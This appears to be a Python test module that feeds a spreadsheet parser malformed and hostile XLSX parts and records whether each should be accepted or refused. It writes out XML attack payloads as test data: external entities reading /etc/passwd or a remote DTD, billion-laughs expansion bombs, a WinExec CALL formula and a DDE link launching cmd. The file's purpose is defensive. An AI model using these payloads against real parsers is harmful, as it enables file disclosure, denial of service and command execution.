"""XML: parts that are odd, that break the rules, or that are made to keep a reader busy."""

from __future__ import annotations

from collections.abc import Callable

from tests.hostile.cases import ACCEPTED, PART, QUERIES, READ, REFUSED, Case, Make, case, spoilt
from tests.hostile.drafts import NUMBER, PER_CENT, Cell, Draft, Form, number
from tests.support.packages import MAIN, SHEET, relationships, zipped

_DAMAGED, _UNSAFE = "FILE_DAMAGED", "FILE_UNSAFE"
_X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
_MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
SHARED = "xl/sharedStrings.xml"


def sheet(change: Callable[[str, Draft], str | bytes], part: str = SHEET) -> Make:
    """Return a maker of good returns of which one part is rewritten."""

    def make(form: Form) -> bytes:
        draft = Draft(form)
        found = draft.parts()
        found[part] = change(str(found.get(part, "")), draft)
        return zipped(found)

    return make


def rows(change: Callable[[list[str]], list[str]]) -> Make:
    """Return a maker of good returns whose rows stand otherwise."""
    return lambda form: (draft := Draft(form)).packed(rows="".join(change(draft.row_elements())))


def _read(name: str, make: Make, outcome: str = ACCEPTED, *codes: str, **others: object) -> Case:
    return case("xml", name, make, outcome, *codes, **others)  # type: ignore[arg-type]


def _no(name: str, make: Make, *codes: str, outcome: str = REFUSED, **others: object) -> Case:
    return case("xml", name, make, outcome, *codes, **others)  # type: ignore[arg-type]


def _prefixed(found: str, _: Draft) -> str:
    body = found.replace(f' xmlns="{MAIN}"', "")
    return _renamed(body).replace("<x:worksheet", f'<x:worksheet xmlns:x="{MAIN}"', 1)


def _renamed(body: str) -> str:
    return body.replace("</", "\0").replace("<", "<x:").replace("\0", "</x:")


def _doctype(declared: str, use: str = "") -> Make:
    return sheet(
        lambda found, _: f"<!DOCTYPE worksheet {declared}>" + found.replace("<v>51</v>", f"<v>{use or 51}</v>")
    )


_LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))

_ENTITIES = (
    _no("an entity", _doctype('[<!ENTITY a "15">]', "&a;"), _UNSAFE),
    _no("an entity that is not used", _doctype('[<!ENTITY a "15">]'), _UNSAFE),
    _no("a billion laughs", _doctype(f'[<!ENTITY l0 "ha">{_LAUGHS}]', "&l9;"), _UNSAFE),
    _no("quadratic growth", _doctype(f'[<!ENTITY a "{"5" * 50_000}">]', "&a;" * 200), _UNSAFE),
    _no("a file of the machine", _doctype('[<!ENTITY a SYSTEM "file:///etc/passwd">]', "&a;"), _UNSAFE,
        says_not=("root:",)),
    _no("an address on the network", _doctype('SYSTEM "http://example.org/evil.dtd"'), _UNSAFE),
    _no("a parameter entity", _doctype('[<!ENTITY % a SYSTEM "http://example.org/evil.dtd"> %a;]'), _UNSAFE),
    _no("a declared type without entities", _doctype("[]"), _UNSAFE),
    _no("entities in the shared strings", lambda form: _shared(
        form, lambda found: '<!DOCTYPE sst [<!ENTITY a "x">]>' + found), _UNSAFE),
    _no("entities in the styles", sheet(lambda found, _: '<!DOCTYPE a [<!ENTITY a "x">]>' + found, "xl/styles.xml"),
        _UNSAFE, outcome=f"{REFUSED}|{READ}"),
    _no("entities in the pointers", sheet(
        lambda found, _: '<!DOCTYPE a [<!ENTITY a "x">]>' + found, "xl/_rels/workbook.xml.rels"), _UNSAFE),
    _no("an entity that is not declared", sheet(lambda found, _: found.replace("<v>51</v>", "<v>&nobody;</v>")),
        _DAMAGED),
)  # fmt: skip


def _shared(form: Form, change: Callable[[str], str] = lambda found: found, first: str = "0", extra: str = "",
            head: str = "") -> bytes:  # fmt: skip
    """Return the good return with its titles as shared strings; `first` is the index of the first."""
    draft = Draft(form)
    words: list[str] = []
    for place, cell in list(draft.cells.items()):
        if "inlineStr" in cell.attributes:
            index = str(len(words)) if words else first
            words.append("<si>" + cell.inside.removeprefix("<is>").removesuffix("</is>") + "</si>")
            draft.cells[place] = Cell(f"<v>{index}</v>", ' t="s"')
    draft.strings = "".join(words) + extra
    found = draft.parts()
    found[SHARED] = change(str(found[SHARED])).replace("<sst", f"<sst{head}", 1)
    return zipped(found)


_STRINGS = (
    _read("shared strings", _shared),
    _read("a count of shared strings that is a lie", lambda form: _shared(
        form, head=' count="4294967295" uniqueCount="4294967295"')),
    _read("no count of shared strings", lambda form: _shared(form, head=' count="0" uniqueCount="0"')),
    _read("shared strings nobody uses", lambda form: _shared(form, extra="".join(
        f"<si><t>{at * 7919 % 1_000_003} unused</t></si>" for at in range(20_000)))),
    _no("an index beyond the shared strings", lambda form: _shared(form, first="99999"), _DAMAGED),
    _no("an index before the shared strings", lambda form: _shared(form, first="-1"), _DAMAGED),
    _no("an index that is no number", lambda form: _shared(form, first="one"), _DAMAGED),
    _no("shared strings cut short", lambda form: _shared(form, lambda found: found[: len(found) // 2]), _DAMAGED),
    _read("shared strings in UTF-16", lambda form: _shared_16(form)),
)  # fmt: skip


def _shared_16(form: Form) -> bytes:
    draft = Draft(form)
    draft.strings = "<si><t>x</t></si>"
    found = draft.parts()
    found[SHARED] = ('<?xml version="1.0" encoding="UTF-16"?>' + str(found[SHARED])).encode("utf-16")
    return zipped(found)


def _encoded(encoding: str, declared: str = "") -> Make:
    return sheet(lambda found, _: f'<?xml version="1.0" encoding="{declared or encoding}"?>{found}'.encode(encoding))


_WRITTEN = (
    _read("UTF-8 with a byte order mark", sheet(lambda found, _: found.encode("utf-8-sig"))),
    _read("UTF-16 with a byte order mark", _encoded("utf-16")),
    _read("big-endian UTF-16", sheet(lambda found, _: b"\xfe\xff" + found.encode("utf-16-be"))),
    _read("ISO 8859-1", _encoded("latin-1", "ISO-8859-1")),
    _no("an encoding that there is not", _encoded("utf-8", "x-none"), _DAMAGED),
    _no("UTF-7", _encoded("utf-8", "UTF-7"), _DAMAGED),
    _no("bytes that are no UTF-8", sheet(lambda found, _: found.encode().replace(b"Quarter", b"Quart\xff\xfe")),
        _DAMAGED),
    _no("XML 1.1", sheet(lambda found, _: f'<?xml version="1.1"?>{found}'), outcome=f"{REFUSED}|{READ}"),
    _no("blanks before the declaration", sheet(lambda found, _: f' <?xml version="1.0"?>{found}'), _DAMAGED),
    _no("a tag that is not closed", sheet(lambda found, _: found.replace("</sheetData>", "")), _DAMAGED),
    _no("tags that cross", sheet(lambda found, _: found.replace("</c></row>", "</row></c>", 1)), _DAMAGED),
    _no("a control character", sheet(lambda found, _: found.replace("<v>51</v>", "<v>5&#1;1</v>")), _DAMAGED),
    _no("a NUL", sheet(lambda found, _: found.replace("<v>51</v>", "<v>5\0001</v>")), _DAMAGED),
    _no("an attribute twice", sheet(lambda found, _: found.replace('<row r="', '<row r="1" r="', 1)), _DAMAGED),
    _no("two roots", sheet(lambda found, _: found + found), _DAMAGED),
    _no("a sheet cut short", sheet(lambda found, _: found[: len(found) * 2 // 3]), _DAMAGED),
    _read("names with a prefix", sheet(_prefixed)),
    _read("elements one to a line", sheet(lambda found, _: found.replace("><", ">\n  <"))),
    _read("comments between the cells", sheet(lambda found, _: found.replace("<row ", "<!-- <v>9</v> --><row "))),
    _read("instructions for a browser", sheet(
        lambda found, _: '<?xml-stylesheet href="http://example.org/x.xsl"?>' + found)),
    _read("attributes of other names", sheet(lambda found, _: found.replace(
        "<worksheet ", f'<worksheet xmlns:x14ac="{_X14}" xmlns:mc="{_MC}" mc:Ignorable="x14ac" ', 1).replace(
        '<row r="', '<row x14ac:dyDescent="0.25" r="'))),
    _read("rows of another name beside them", sheet(lambda found, _: found.replace(
        "<sheetData>", f'<sheetData xmlns:o="{_X14}"><o:row r="2"><o:c r="D5"><o:v>9</o:v></o:c></o:row>', 1))),
    _read("an extension at the end", sheet(lambda found, _: found.replace(
        "</worksheet>", f'<extLst><ext xmlns:x14="{_X14}" uri="{{1}}"><x14:v>9</x14:v></ext></extLst></worksheet>'))),
    _no("a choice between two figures", sheet(lambda found, _: found.replace("<v>51</v>",
        f'<mc:AlternateContent xmlns:mc="{_MC}"><mc:Choice Requires="x14"><v>15</v></mc:Choice><mc:Fallback><v>51</v>'
        "</mc:Fallback></mc:AlternateContent>")), outcome=f"{REFUSED}|{PART}", values={PER_CENT: "rejected|held"}),
    _no("nested a hundred thousand deep", sheet(lambda found, _: found.replace(
        "</sheetData>", "</sheetData>" + "<a>" * 100_000 + "</a>" * 100_000)), outcome=f"{REFUSED}|{READ}"),
    _read("an attribute of a megabyte", sheet(lambda found, _: found.replace(
        '<row r="', f'<row x="{"".join(map(chr, range(97, 123))) * 40_000}" r="', 1)), f"{READ}|{REFUSED}"),
)  # fmt: skip


def _lone(at: str) -> Make:
    return sheet(lambda found, _: found.replace(
        "</sheetData>", f'<row r="1048576"><c r="{at}"><v>1</v></c></row></sheetData>'))  # fmt: skip


def _same_row_twice(found: list[str]) -> list[str]:
    first, second = found[-1].split("</c>", 1)
    head = found[-1][: found[-1].index(">") + 1]
    return [*found[:-1], first + "</c></row>", head + second]


def _backwards(found: list[str]) -> list[str]:
    return found[::-1]


def _cells_backwards(found: list[str]) -> list[str]:
    turned = []
    for row in found:
        head, body = row.split(">", 1)
        cells = [f"{cell}</c>" for cell in body.removesuffix("</row>").split("</c>") if cell]
        turned.append(f"{head}>{''.join(reversed(cells))}</row>")
    return turned


def _twice(value: str) -> Make:
    """Return a maker whose per cent stands in its cell, and again with a value."""

    def make(form: Form) -> bytes:
        draft = Draft(form)
        cell = number("51").xml(draft.at("actual", PER_CENT))
        return draft.packed(rows="".join(draft.row_elements()).replace(cell, cell + cell.replace("51", value)))

    return make


def _moved(attribute: str) -> Make:
    """Return a maker whose first actual says that it stands somewhere else."""

    def make(form: Form) -> bytes:
        draft = Draft(form)
        at = draft.at("actual", PER_CENT)
        return draft.packed(rows="".join(draft.row_elements()).replace(f'<c r="{at}"', f"<c {attribute}", 1))

    return make


_PLACES = (
    _read("an extent that is too small", spoilt(lambda draft: setattr(draft, "before", '<dimension ref="A1:B2"/>'))),
    _read("an extent of a whole sheet", spoilt(
        lambda draft: setattr(draft, "before", '<dimension ref="A1:XFD1048576"/>'))),
    _read("an extent that is none", spoilt(lambda draft: setattr(draft, "before", '<dimension ref="#REF!"/>')),
          f"{ACCEPTED}|{REFUSED}"),
    _read("rows out of order", rows(_backwards)),
    _read("cells out of order", rows(_cells_backwards)),
    _no("a row in two pieces", rows(_same_row_twice), outcome=f"{ACCEPTED}|{REFUSED}"),
    _no("a row twice with the same", rows(lambda found: [*found, found[-1]]), _DAMAGED),
    _no("a cell twice with another value", _twice("15"), _DAMAGED),
    _no("a cell twice with the same value", _twice("51"), _DAMAGED),
    _no("a cell that says another row", _moved('r="A900"'), outcome=f"{REFUSED}|{PART}|{QUERIES}",
        values={PER_CENT: "rejected|held|blank"}),
    _no("a cell in row 0", _moved('r="D0"'), _DAMAGED),
    _no("a cell without a column", _moved('r="5"'), _DAMAGED),
    _no("a cell beyond the last column", _moved('r="XFE5"'), _DAMAGED),
    _no("a cell in a column of five letters", _moved('r="ZZZZZ5"'), _DAMAGED),
    _no("a cell in row 2147483647", _moved('r="D2147483647"'), _DAMAGED),
    _no("a cell with a negative row", _moved('r="D-5"'), _DAMAGED),
    _no("a cell in words", _moved('r="here"'), _DAMAGED),
    _read("a lone value in the last cell of the sheet", _lone("XFD1048576"), READ),
    _no("a row after the last one", sheet(lambda found, _: found.replace(
        "</sheetData>", '<row r="1048577"><c r="A1048577"><v>1</v></c></row></sheetData>')), _DAMAGED),
    _no("two tables of rows", sheet(lambda found, draft: found.replace("</worksheet>", (
        f'<sheetData><row r="{draft.row_of(PER_CENT)}">{number("15").xml(draft.at("actual", PER_CENT))}</row>'
        "</sheetData></worksheet>"))), outcome=f"{REFUSED}|{PART}", values={PER_CENT: "rejected|held"}),
)  # fmt: skip


def _after(name: str, after: str, outcome: str = ACCEPTED) -> Case:
    return _read(name, spoilt(lambda draft: setattr(draft, "after", after)), outcome)


def _merging(area: str) -> Make:
    return spoilt(lambda draft: draft.merges.append(area))


_AROUND = (
    _read("a merged area to the end of the sheet", _merging("A200:XFD1048576"), f"{READ}|{REFUSED}"),
    _read("a merged area of one cell", _merging("A200:A200")),
    _no("a merged area that is none", _merging("A200:"), outcome=f"{ACCEPTED}|{REFUSED}"),
    _no("a merged area that runs backwards", _merging("C210:A200"), outcome=f"{ACCEPTED}|{REFUSED}"),
    _no("a merged area in words", _merging("here:there"), outcome=f"{ACCEPTED}|{REFUSED}"),
    _after("a link over the whole sheet",
           '<hyperlinks><hyperlink ref="A200:XFD1048576" location="A1"/></hyperlinks>'),
    _after("a conditional format over the whole sheet",
           '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" dxfId="9" priority="1"><formula>1'
           "</formula></cfRule></conditionalFormatting>"),
    _after("a validation that calls a program", '<dataValidations count="1"><dataValidation type="custom" sqref="A1">'
           "<formula1>CALL(\"Kernel32\",\"WinExec\")</formula1></dataValidation></dataValidations>"),
    _after("a protected sheet", '<sheetProtection sheet="1" password="CC1A"/>'),
    _after("a filter", '<autoFilter ref="A4:F11"/>'),
    _read("a protected workbook", spoilt(
        lambda draft: setattr(draft, "workbook", '<workbookProtection workbookPassword="CC1A" lockStructure="1"/>'))),
    _read("properties with an odd date", spoilt(lambda draft: draft.extra.update({"docProps/core.xml":
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dcterms="http://purl.org/dc/terms/"><dcterms:modified>yesterday</dcterms:modified></cp:coreProperties>',
        "_rels/.rels": relationships(("rId1", "officeDocument", "xl/workbook.xml"), ("rId2",
        "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
        "docProps/core.xml"))}))),
    _read("a value from another workbook", spoilt(lambda draft: [draft.put("actual", NUMBER, Cell(
        "<f>[1]Sheet1!A1</f><v>512</v>")), _external(draft, "<externalBook/>")]), ACCEPTED, "FILE_HAS_LINKS"),
    _read("a link that starts a program", spoilt(lambda draft: _external(
        draft, '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems/></ddeLink>')), ACCEPTED, "FILE_HAS_LINKS",
        says_not=("calc",)),
    _no("no sheets", sheet(lambda found, _: found[: found.index("<sheet ")] + "</sheets></workbook>",
        "xl/workbook.xml"), "FILE_NO_SHEETS|FILE_DAMAGED"),
    _no("a sheet without a pointer", sheet(lambda found, _: found.replace('r:id="rId1"', ""), "xl/workbook.xml"),
        "FILE_NO_SHEETS|FILE_DAMAGED"),
    _no("one sheet under two names", sheet(lambda found, _: found.replace("</sheets>",
        '<sheet name="Again" sheetId="2" r:id="rId1"/></sheets>'), "xl/workbook.xml"), outcome=f"{READ}|{REFUSED}"),
    _read("a sheet name of an injection", sheet(lambda found, _: found.replace(
        'name="Return"', "name=\"='[x]y'!A1\""), "xl/workbook.xml")),
    _read("a sheet of no name", sheet(lambda found, _: found.replace('name="Return"', 'name=""'), "xl/workbook.xml"),
          f"{READ}|{REFUSED}"),
    _read("defined names without number", spoilt(lambda draft: setattr(draft, "workbook", "<definedNames>" + "".join(
        f'<definedName name="n{at}">#REF!</definedName>' for at in range(20_000)) + "</definedNames>"))),
)  # fmt: skip


def _external(draft: Draft, inside: str) -> None:
    draft.extra["xl/externalLinks/externalLink1.xml"] = f'<externalLink xmlns="{MAIN}">{inside}</externalLink>'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    draft.pointers = f'<Relationship Id="rId80" Type="{office}/externalLink" Target="externalLinks/externalLink1.xml"/>'


CASES: tuple[Case, ...] = (*_ENTITIES, *_STRINGS, *_WRITTEN, *_PLACES, *_AROUND)
